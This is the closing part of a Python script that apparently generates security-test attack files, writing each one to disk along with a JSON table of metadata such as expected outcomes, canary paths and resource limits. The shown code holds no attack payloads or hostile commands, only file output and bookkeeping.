        (out / a.file_name).write_bytes(a.build(canaries, out))
        table.append({'name': a.name, 'file': a.file_name, 'kind': a.kind, 'summary': a.summary,
                      'expect': a.expect,
                      'flags': list(a.flags), 'torch_runs': a.torch_runs,
                      'inspect_reads': a.inspect_reads, 'max_rss_mb': a.max_rss_mb,
                      'canary': str(canaries / a.name)})
    (out / 'attacks.json').write_text(json.dumps(table, indent=1) + '\n')
    print(f'make_attacks: {len(ATTACKS)} attacks in {out} (canaries in {canaries})')
    return 0


if __name__ == '__main__':
    sys.exit(main())
